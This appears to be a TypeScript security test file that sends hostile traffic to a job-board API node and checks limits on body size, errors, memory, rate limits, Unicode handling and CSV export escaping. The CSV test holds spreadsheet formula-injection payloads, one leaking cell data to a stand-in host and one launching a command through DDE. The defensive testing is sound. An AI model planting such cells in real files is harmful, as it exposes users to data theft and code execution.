import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { type Answer, bearer, type HostileNode, json, MiB, rssOf, startHostileNode } from './hostile-node.ts'

/**
 * The cases of the security review (issue 20) that judge answers, memory and stored data, not time:
 * the ones that do are in hostile-traffic.test.ts, which runs alone.
 */

describe('hostile payloads against a running node', { timeout: 240_000 }, () => {
  let node: HostileNode

  before(async () => {
    node = await startHostileNode()
  })

  after(() => node.stop())

  test('an 8 MB client_id, 30 times: 413 at once, the memory stays where it was, tokens still work', async () => {
    const before = await rssOf(node.pid)
    const body = JSON.stringify({
      client_id: 'x'.repeat(8 * MiB),
      client_secret: 'nothing',
      grant_type: 'client_credentials',
    })
    let highest = before
    for (let wave = 0; wave < 3; wave++) {
      // One of each wave sends only its head, so its answer is read whatever the others do; the others
      // send everything at once, and may see (status 0) the connection closed by the server before they
      // could read its 413: the body is refused by its Content-Length either way, never read.
      const answers = await Promise.all(
        Array.from({ length: 10 }, (_, index) =>
          node.send('POST', '/v3/oauth2/token', {
            headers: { 'content-type': 'application/json' },
            body,
            from: '198.51.100.1',
            ...(index === 0 ? { headOnly: true } : {}),
          }),
        ),
      )
      assert.equal(answers[0]?.status, 413)
      for (const answer of answers) {
        assert.ok([413, 0].includes(answer.status), `${answer.status} ${answer.text.slice(0, 200)}`)
        if (answer.status === 413) assert.match(JSON.parse(answer.text).message, /4096 bytes/)
      }
      highest = Math.max(highest, await rssOf(node.pid))
    }
    assert.ok(highest - before < 48 * MiB, `RSS grew by ${Math.round((highest - before) / MiB)} MiB`)
    assert.equal(node.exitCode(), null)
    await node.tokenOf(node.victim.id, node.victim.secret, '198.51.100.1')
  })

  test('a batch of 5000 items with every problem the limits allow: the errors are bounded, then summed up, every item named', async () => {
    const item = Object.fromEntries(Array.from({ length: 99 }, (_, i) => [`unknown_${i}`, i]))
    const answer = await node.send('POST', '/v3/jobboard/job-offers', {
      headers: { 'content-type': 'application/json', ...bearer(node.attacker.token) },
      body: JSON.stringify(Array.from({ length: 5_000 }, () => item)),
    })
    assert.equal(answer.status, 400)
    const { errors } = JSON.parse(answer.text) as { errors: { message: string; data: unknown }[] }
    // 100 problems per item, 21 entries each: 47 items and 13 entries of the 48th shown; then the first
    // problem alone of each of the other 4,952.
    assert.equal(errors.length, 1_000 + 4_952 + 1)
    assert.deepEqual(errors[0]?.data, { index: 0, field: 'reference', code: 'required' })
    assert.match(errors[20]?.message ?? '', /^and 80 more problems with this item/)
    assert.deepEqual(errors[20]?.data, { code: 'problems_omitted', index: 0, field: null, omitted: 80 })
    assert.deepEqual(errors[1_000]?.data, { index: 48, field: 'reference', code: 'required' })
    assert.deepEqual(errors[5_951]?.data, { index: 4_999, field: 'reference', code: 'required' })
    const omitted = 5_000 * 100 - 47 * 100 - 13 - 4_952
    assert.equal(errors[5_952]?.message, `and ${omitted} more problems (MAX_ERRORS_PER_BATCH is 1000)`)
    assert.deepEqual(errors[5_952]?.data, { code: 'problems_omitted', omitted })
    assert.ok(answer.text.length < 600_000, `${answer.text.length} bytes`)
  })

  test('a stranger with wrong secrets under a client id blocks only itself: the client still gets tokens', async () => {
    const wrong = json({ client_id: node.victim.id, client_secret: 'guess', grant_type: 'client_credentials' })
    const answers: number[] = []
    for (let i = 0; i < 25; i++)
      answers.push((await node.send('POST', '/v3/oauth2/token', { ...wrong, from: '198.51.100.66' })).status)
    assert.equal(answers.filter((status) => status === 401).length, 20)
    assert.equal(answers.at(-1), 429)
    await node.tokenOf(node.victim.id, node.victim.secret, '198.51.100.77')
  })

  test('items of 255 four-byte characters store and read back', async () => {
    // Characters drawn at random, as real text is: a repeated one would compress below the index's limit.
    const wide = () =>
      Array.from({ length: 255 }, () => String.fromCodePoint(0x20000 + Math.floor(Math.random() * 0xa6d0))).join('')
    const step = {
      recorded_at: '2026-11-20T10:15:00Z',
      job_offer_reference: wide(),
      candidate_ats_id: wide(),
      step: wide(),
      application_ats_id: wide(),
      subsidiary: wide(),
      source: wide(),
    }
    const stored = await node.send('POST', '/v3/ats/application-steps', {
      headers: { 'content-type': 'application/json', ...bearer(node.attacker.token) },
      body: JSON.stringify([step]),
    })
    assert.equal(stored.status, 201, stored.text)
    const id = JSON.parse(stored.text).data[0].id
    const read = await node.send('GET', `/v3/ats/application-steps/${id}`, { headers: bearer(node.attacker.token) })
    assert.equal(JSON.parse(read.text).data[0].source, step.source)
  })

  test('filters and cursors with characters outside the Basic Multilingual Plane', async () => {
    const steps = ['JO-😀', 'JO-😀', 'JO-𝄞'].map((reference, i) => ({
      recorded_at: '2026-11-21T10:00:00Z',
      job_offer_reference: reference,
      candidate_ats_id: `C-${i}`,
      step: 'applied',
      application_ats_id: `A-${i}`,
    }))
    const stored = await node.send('POST', '/v3/ats/application-steps', {
      headers: { 'content-type': 'application/json', ...bearer(node.victim.token) },
      body: JSON.stringify(steps),
    })
    assert.equal(stored.status, 201, stored.text)
    const filtered = await node.send(
      'GET',
      `/v3/ats/application-steps?job_offer_reference=${encodeURIComponent('JO-😀')}&limit=1`,
      { headers: bearer(node.victim.token) },
    )
    assert.equal(filtered.status, 200, filtered.text)
    const cursor = JSON.parse(filtered.text).next_cursor
    const next = await node.send(
      'GET',
      `/v3/ats/application-steps?job_offer_reference=${encodeURIComponent('JO-😀')}&limit=1&cursor=${cursor}`,
      { headers: bearer(node.victim.token) },
    )
    assert.equal(next.status, 200, next.text)
    const range = 'from=2026-11-21&to=2026-11-22&group_by=job_offer_reference'
    const funnel = await node.send('GET', `/v3/reports/funnel?${range}&limit=1`, { headers: bearer(node.victim.token) })
    assert.equal(funnel.status, 200, funnel.text)
    const funnelCursor = JSON.parse(funnel.text).next_cursor
    assert.equal(typeof funnelCursor, 'string')
    const second = await node.send('GET', `/v3/reports/funnel?${range}&limit=1&cursor=${funnelCursor}`, {
      headers: bearer(node.victim.token),
    })
    assert.equal(second.status, 200, second.text)
  })

  test('CSV exports neutralise cells a spreadsheet would run as formulas', async () => {
    const offers = [
      { reference: '=HYPERLINK("http://evil.example/?leak="&A1)', title: "+cmd|' /C calc'!A0" },
      { reference: '@SUM(1+1)', title: '-2+3', subsidiary: '\tTab', description: '\rReturn' },
      { reference: 'plain', title: 'a = b' },
    ]
    const stored = await node.send('POST', '/v3/jobboard/job-offers', {
      headers: { 'content-type': 'application/json', ...bearer(node.victim.token) },
      body: JSON.stringify(offers),
    })
    assert.equal(stored.status, 201, stored.text)
    const csv = await node.send('GET', '/v3/jobboard/job-offers', {
      headers: { ...bearer(node.victim.token), accept: 'text/csv' },
    })
    assert.equal(csv.status, 200)
    const cells = csv.text.split(/,|\r?\n/)
    for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, cell)
    assert.match(csv.text, /"'=HYPERLINK\(""http/)
    assert.match(csv.text, /'\+cmd/)
    assert.match(csv.text, /,a = b,plain,/)
  })

  test('1000 job offers with 100 KB descriptions: pages and exports bounded in bytes, every offer read once', async (t) => {
    const description = 'd'.repeat(100_000)
    for (let batch = 0; batch < 10; batch++) {
      const offers = Array.from({ length: 100 }, (_, i) => ({ reference: `WIDE-${batch * 100 + i}`, description }))
      const stored = await node.send('POST', '/v3/jobboard/job-offers', {
        headers: { 'content-type': 'application/json', ...bearer(node.attacker.token), prefer: 'return=minimal' },
        body: JSON.stringify(offers),
      })
      assert.equal(stored.status, 201, stored.text)
    }
    const before = await rssOf(node.pid)
    let highest = before
    const sampler = setInterval(() => {
      rssOf(node.pid).then(
        (rss) => {
          highest = Math.max(highest, rss)
        },
        () => {},
      )
    }, 50)
    t.after(() => clearInterval(sampler))
    const walks = Array.from({ length: 4 }, async () => {
      const seen = new Set<string>()
      let cursor: string | null = null
      let pages = 0
      for (;;) {
        const answer: Answer = await node.send(
          'GET',
          `/v3/jobboard/job-offers?reference=&limit=1000${cursor === null ? '' : `&cursor=${cursor}`}`.replace(
            'reference=&',
            '',
          ),
          { headers: bearer(node.attacker.token) },
        )
        // Four readers of one client are more than the cost budget runs at once: they take turns.
        if ((answer.status === 429 || answer.status === 503) && answer.headers['retry-after'] !== undefined) {
          await new Promise((resolve) => setTimeout(resolve, Number(answer.headers['retry-after']) * 1000))
          continue
        }
        assert.equal(answer.status, 200, answer.text.slice(0, 300))
        assert.ok(answer.text.length < 8 * MiB + 200_000, `a page of ${answer.text.length} bytes`)
        const page = JSON.parse(answer.text) as { data: { reference: string }[]; next_cursor: string | null }
        for (const offer of page.data) if (offer.reference.startsWith('WIDE-')) seen.add(offer.reference)
        pages++
        cursor = page.next_cursor
        if (cursor === null) return { seen: seen.size, pages }
      }
    })
    const walked = await Promise.all(walks)
    const exported = await node.send('GET', '/v3/jobboard/job-offers', {
      headers: { ...bearer(node.attacker.token), accept: 'application/x-ndjson' },
    })
    for (const walk of walked) {
      assert.equal(walk.seen, 1_000)
      assert.ok(walk.pages >= 12, `${walk.pages} pages`)
    }
    assert.equal(
      exported.text
        .trim()
        .split('\n')
        .filter((line) => line.includes('"WIDE-')).length,
      1_000,
    )
    assert.ok(highest - before < 512 * MiB, `RSS grew by ${Math.round((highest - before) / MiB)} MiB`)
  })
})
